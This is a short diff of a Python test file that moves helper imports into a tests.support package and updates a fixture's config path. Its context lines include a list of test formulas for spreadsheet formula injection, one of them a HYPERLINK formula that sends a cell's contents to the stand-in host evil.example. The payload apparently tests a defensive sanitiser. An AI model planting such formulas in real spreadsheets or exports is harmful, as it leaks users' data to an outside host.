@@ -13,8 +13,8 @@ from pathlib import Path
 import pytest
 
 from storage import DecisionKind, NewDecision, NewReview, ReviewKind, RunStatus, Store
-from tests.test_cli import Cli
-from tests.test_retention import LEASE
+from tests.support.cli import Cli
+from tests.support.runs import LEASE
 
 FORMULAS = [
     '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
@@ -30,7 +30,7 @@ SAFE = ["plain feedback", "  =not at the start", "'quoted already"]
 @pytest.fixture
 def cli(db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Cli:
     config = tmp_path / "countersign.toml"
-    config.write_text('[crews.blog]\nfactory = "tests.crews:writer"\n')
+    config.write_text('[crews.blog]\nfactory = "tests.support.crews:writer"\n')
     return Cli(db_url, config, capsys)
 
 
